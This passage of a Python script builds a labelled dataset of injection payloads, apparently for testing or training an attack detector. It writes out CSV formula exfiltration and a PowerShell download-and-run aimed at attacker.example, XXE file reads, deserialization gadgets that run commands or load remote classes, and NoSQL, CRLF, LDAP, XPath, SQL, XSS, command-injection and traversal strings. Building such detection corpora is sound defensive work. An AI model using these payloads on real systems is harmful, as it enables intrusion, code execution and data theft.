proto-pollution-query ⇒ __proto__[isAdmin]=true
proto-pollution-ejs-gadget ⇒ {"__proto__":{"outputFunctionName":"x;process.mainModule.require('child_process').execSync('id');//"}}
csv-dde-cmd ⇒ =cmd|' /C calc'!A0
csv-hyperlink-exfil ⇒ =HYPERLINK("http://attacker.example/?d="&A1,"Click for the ROM")
csv-at-sum-dde ⇒ @SUM(1+1)*cmd|' /C calc'!A0
csv-plus-dde-powershell ⇒ +cmd|'/C powershell -nop -c IEX(New-Object Net.WebClient).DownloadString(''http://attacker.example/p'')'!A0
csv-minus-dde ⇒ -2+3+cmd|' /C notepad'!'A1'
csv-webservice ⇒ =WEBSERVICE("http://attacker.example/?"&A2)
csv-importxml-sheets ⇒ =IMPORTXML(CONCAT("http://attacker.example/?",A1),"//a")
xxe-file ⇒ <?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>
xxe-parameter-oob ⇒ <?xml version="1.0"?><!DOCTYPE r [<!ENTITY % d SYSTEM "http://attacker.example/e.dtd"> %d;]><r/>
xinclude-text ⇒ <x xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></x>
xxe-svg ⇒ <?xml version="1.0"?><!DOCTYPE svg [<!ENTITY h SYSTEM "file:///etc/hostname">]><svg xmlns="http://www.w3.org/2000/svg"><text>&h;</text></svg>
xxe-php-expect ⇒ <?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "expect://id">]><r>&x;</r>
xxe-entity-expansion ⇒ <?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "LOAD"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;"><!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;">]><l>&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;</l>
yaml-python-apply ⇒ !!python/object/apply:os.system ["id"]
yaml-python-new ⇒ !!python/object/new:subprocess.check_output [["id"]]
yaml-snakeyaml-scriptengine ⇒ !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://attacker.example/x.jar"]]]]
pickle-protocol0-text ⇒ cos⟪LF⟫system⟪LF⟫(S'id'⟪LF⟫tR.
pickle-base64 ⇒ Y29zCnN5c3RlbQooUydpZCcKdFIu
java-xmldecoder ⇒ <java><object class="java.lang.Runtime" method="getRuntime"><void method="exec"><string>id</string></void></object></java>
jackson-jdbcrowset ⇒ ["com.sun.rowset.JdbcRowSetImpl",{"dataSourceName":"ldap://attacker.example:1389/x","autoCommit":true}]
fastjson-autotype ⇒ {"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"rmi://203.0.113.10:1099/x","autoCommit":true}
dotnet-jsonnet-objectdataprovider ⇒ {"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework","MethodName":"Start","MethodParameters":{"$type":"System.Collections.ArrayList, mscorlib","$values":["cmd","/c calc"]},"ObjectInstance":{"$type":"System.Diagnostics.Process, System"}}
php-object-injection ⇒ O:4:"User":2:{s:8:"username";s:5:"admin";s:7:"isAdmin";b:1;}
php-phar-wrapper ⇒ phar://uploads/avatars/1541.jpg/x
node-serialize-iife ⇒ {"rce":"_$$ND_FUNC$$_function(){require('child_process').exec('id')}()"}
jsonpickle-reduce ⇒ {"py/reduce":[{"py/function":"os.system"},{"py/tuple":["id"]}]}
""")

NOSQLI = L(r"""
json-ne-null ⇒ {"$ne": null}
json-gt-empty ⇒ {"$gt": ""}
query-bracket-ne ⇒ username[$ne]=sysop&password[$ne]=x
query-regex-prefix ⇒ password[$regex]=^a.*
where-sleep ⇒ {"$where": "sleep(5000) || true"}
where-string-break ⇒ ';return true;var x='
where-infinite-loop ⇒ '; while(true){}; var x='
json-regex-any ⇒ {"$regex": ".*", "$options": "si"}
json-in-ne-login ⇒ {"username": {"$in": ["admin","sysop","root"]}, "password": {"$ne": ""}}
json-or-role ⇒ {"$or": [{"handle": "x"}, {"role": "admin"}]}
expr-function-js ⇒ {"$expr": {"$function": {"body": "function(){sleep(3000);return true}", "args": [], "lang": "js"}}}
aggregation-lookup ⇒ [{"$lookup": {"from": "users", "localField": "x", "foreignField": "x", "as": "u"}}]
where-or-string ⇒ 1'||'1'=='1
where-match-exfil ⇒ '||this.password.match(/^a/)||'
json-nin-empty ⇒ {"$nin": []}
json-exists ⇒ {"$exists": true}
couchdb-mango-selector ⇒ {"selector": {"_id": {"$gt": null}}, "fields": ["_id", "password"]}
query-platform-ne ⇒ platform[$ne]=c64
query-regex-dotstar ⇒ handle[$regex]=.*&pin[$regex]=.*
json-where-function ⇒ {"$where": "function(){return this.role=='admin'}"}
json-elemmatch ⇒ {"tokens": {"$elemMatch": {"$gt": ""}}}
query-gt-empty-encoded-brackets ⇒ user%5B%24gt%5D=&pass%5B%24gt%5D=
json-regex-blind-char ⇒ {"password": {"$regex": "^s3"}}
mongo-eval-drop ⇒ '}); db.users.drop(); db.posts.find({x:'
json-accumulator-js ⇒ [{"$group": {"_id": 1, "x": {"$accumulator": {"init": "function(){sleep(5000);return 0}", "accumulate": "function(s){return s}", "accumulateArgs": [], "merge": "function(a){return a}", "lang": "js"}}}}]
""")

CRLF = L(r"""
log-forge-newline ⇒ Boulder Dash⟪LF⟫2024-05-01 12:00:00 INFO user=sysop action=login result=success ip=127.0.0.1
log-forge-encoded ⇒ zork%0a2024-05-01%2012:00:00%20INFO%20admin%20password%20changed%20by%20sysop
header-set-cookie-encoded ⇒ x%0d%0aSet-Cookie:%20session=attacker-fixed-1234
header-xff-raw ⇒ en-US⟪CR⟫⟪LF⟫X-Forwarded-For: 127.0.0.1
response-splitting ⇒ %0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html%0d%0a%0d%0a<script>alert(1)</script>
mail-bcc-raw ⇒ retro@example.com⟪CR⟫⟪LF⟫Bcc: victim1@example.org, victim2@example.org
mail-subject-bcc-lf ⇒ Wanted: 1541 belt⟪LF⟫Bcc: list@attacker.example
mail-cc-encoded ⇒ sysop@example.net%0aCc:%20everyone@attacker.example
nel-separator ⇒ Elite⟪NEL⟫Set-Cookie: admin=1
line-separator ⇒ Manic Miner⟪LS⟫INFO admin granted role=sysop
utf8-truncation-crlf ⇒ /%E5%98%8A%E5%98%8DSet-Cookie:%20admin=1
percent-u-crlf ⇒ x%u000d%u000aSet-Cookie:%20admin=1
double-encoded-crlf ⇒ x%250d%250aLocation:%20https://attacker.example/
log-ansi-escape ⇒ ok⟪ESC⟫[2J⟪ESC⟫[1;31mSYSTEM COMPROMISED -- contact attacker.example⟪ESC⟫[0m
location-redirect-injection ⇒ /forum/home%0d%0aLocation:%20https://attacker.example/
smtp-command-injection ⇒ hi⟪CR⟫⟪LF⟫.⟪CR⟫⟪LF⟫MAIL FROM:<x@attacker.example>⟪CR⟫⟪LF⟫RCPT TO:<victim@example.org>⟪CR⟫⟪LF⟫DATA⟪CR⟫⟪LF⟫Subject: reset your password⟪CR⟫⟪LF⟫⟪CR⟫⟪LF⟫http://attacker.example/r⟪CR⟫⟪LF⟫.
cookie-value-injection ⇒ theme=amber⟪CR⟫⟪LF⟫Set-Cookie: admin=1; Path=/
json-log-line-forge ⇒ ok"}⟪LF⟫{"level":"info","msg":"user sysop granted admin","ip":"127.0.0.1"}
cr-only-overwrite ⇒ FAILED LOGIN for sysop⟪CR⟫OK    LOGIN for sysop
header-content-type-encoded ⇒ download.d64%0d%0aContent-Type:%20text/html%0d%0a%0d%0a<svg onload=alert(1)>
mail-to-header-raw ⇒ Hi there⟪CR⟫⟪LF⟫To: victim@example.org⟪CR⟫⟪LF⟫Subject: Your BBS account
uppercase-encoded-crlf ⇒ ATZ%0D%0AX-Injected:%20yes
lf-only-header ⇒ C64%0aAccess-Control-Allow-Origin:%20https://attacker.example
syslog-forge ⇒ Amiga 500⟪LF⟫<34>1 2024-05-01T12:00:00Z forum sshd - - - Accepted password for root from 198.51.100.9
host-header-injection ⇒ forum.local⟪CR⟫⟪LF⟫X-Original-URL: /admin
mail-reply-to-encoded ⇒ Trade%20offer%0d%0aReply-To:%20scam@attacker.example
cache-poison-split ⇒ %0d%0aCache-Control:%20public,%20max-age=31536000%0d%0aX-Cache-Key:%20/
""")

LDAPX = L(r"""
ldap-wildcard-or ⇒ *)(uid=*))(|(uid=*
ldap-and-true ⇒ admin)(&)
ldap-objectclass ⇒ *)(|(objectClass=*)
ldap-password-any ⇒ sysop)(|(password=*))
ldap-blind-prefix ⇒ *)(userPassword=a*
ldap-cn-wildcard ⇒ x*)(|(cn=*
ldap-not-and ⇒ admin)(!(&(1=0
ldap-memberof ⇒ *)(memberOf=cn=admins,ou=groups,dc=forum,dc=local))(|(uid=*
xpath-or-true ⇒ ' or 1=1 or 'a'='a
xpath-union-nodes ⇒ ']|//user/password|//a['
xpath-count-probe ⇒ ' or count(/*)=1 or 'a'='b
xpath-name-length ⇒ ' or string-length(name(/*[1]))>0 or ''='
xpath-substring-blind ⇒ x' or substring(//user[1]/password,1,1)='a' or 'a'='b
xpath-doc-oob ⇒ ' or doc-available(concat('http://attacker.example/',//user[1]/password)) or '
xpath-paren-or ⇒ ') or ('1'='1
xpath-numeric-or ⇒ 1 or 1=1
xpath-all-text ⇒ ' or '1'='1']/../..//text()|//*['
ldap-sysop-handle-wildcard ⇒ SysOp*)(|(description=*
""")

# ---- computed part: prefix joins and single encodings (all hand-written inputs)
JOIN = {
    "sqli": (["Boulder Dash", "c64 games 1985", "LOAD \"*\",8,1", "kick13.rom", "ATDT 555-0134"],
             [("tautology", "' OR 'x'='x"), ("time-mysql", "' AND SLEEP(3)#"), ("time-mssql", "'; WAITFOR DELAY '0:0:4'--"), ("union-select", "' UNION SELECT NULL,email FROM users-- -")]),
    "xss": (["My sig: ", "10 PRINT ", "Looking for Elite ", "READY. "],
            [("svg-onload", "<svg onload=alert(1)>"), ("img-onerror", "<img src=x onerror=alert(document.cookie)>"), ("script-tag", "<script>alert(document.domain)</script>")]),
    "cmdi": (["manic.tzx", "Workbench1.3.adf", "bdash.prg", "keen1.zip"],
             [("semicolon", "; id"), ("pipe", " | id"), ("andand", " && uname -a"), ("dollar-paren", "$(id)"), ("backtick", "`whoami`")]),
    "traversal": (["roms/c64/", "disks/amiga/", "files/dos/"],
                  [("dotdot", "../../../../etc/passwd"), ("encoded-slash", "..%2f..%2f..%2f..%2fetc%2fpasswd"), ("nested-strip", "....//....//....//etc/shadow")]),
    "crlf": (["Lemmings", "1541 belt", "AT&F"],
             [("header-set-cookie-encoded", "%0d%0aSet-Cookie:%20admin=1"), ("log-forge-encoded", "%0aINFO admin logged in")]),
}
ENCODE = {"sqli": 3, "xss": 2, "cmdi": 2, "traversal": 2, "ssrf": 3, "code": 1, "nosqli": 2, "crlf": 1, "ldap-xpath": 2}
JOIN_N = {"sqli": 4, "xss": 3, "cmdi": 2, "traversal": 4, "crlf": 2}

CATEGORIES = [
    ("sqli", SQLI), ("xss", XSS), ("cmdi", CMDI), ("traversal", TRAVERSAL), ("ssrf", SSRF),
    ("code", CODE), ("nosqli", NOSQLI), ("crlf", CRLF), ("ldap-xpath", LDAPX),
]


def urlencode(v):
    return urllib.parse.quote(v, safe="")


def build():
    rng = random.Random(SEED)
    rows = []
    stats = []
    for cat, lits in CATEGORIES:
        vals = [v for _, v in lits]
        assert len(set(vals)) == len(vals), ("duplicate literal", cat)
        classes = [c for c, _ in lits]
        assert len(set(classes)) == len(classes), ("duplicate class", cat)
        seen = set(vals)
        out = [(c, v) for c, v in lits]
        n_join = 0
        if cat in JOIN:
            prefixes, payloads = JOIN[cat]
            while n_join < JOIN_N[cat]:
                pname, payload = rng.choice(payloads)
                v = rng.choice(prefixes) + payload
                if v in seen:
                    continue
                seen.add(v)
                out.append(("prefixed-" + pname, v))
                n_join += 1
        n_enc = 0
        candidates = list(lits)
        while n_enc < ENCODE[cat]:
            c, v = rng.choice(candidates)
            e = urlencode(v)
            if e in seen or e == v:
                continue
            seen.add(e)
            out.append((c + "+urlencode", e))
            n_enc += 1
        stats.append((cat, len(out), len(lits)))
        for c, v in out:
            rows.append((cat, c, v))
    return rows, stats


def main():
    rows, stats = build()
    here = os.path.dirname(os.path.abspath(__file__))
    with open(os.path.join(here, "attacks.jsonl"), "w", encoding="utf-8", newline="\n") as fh:
        for i, (cat, cls, v) in enumerate(rows, 1):
            rec = {"id": "%s-%05d" % (PREFIX, i), "category": cat, "class": cls, "label": "attack", "value": v}
            fh.write(json.dumps(rec, ensure_ascii=False) + "\n")
    tot_lit = 0
    for cat, n, lit in stats:
        tot_lit += lit
        print("%-11s n=%d literals=%d" % (cat, n, lit))
    print("total", len(rows), "literals", tot_lit, "share %.3f" % (tot_lit / len(rows)))


if __name__ == "__main__":
    main()
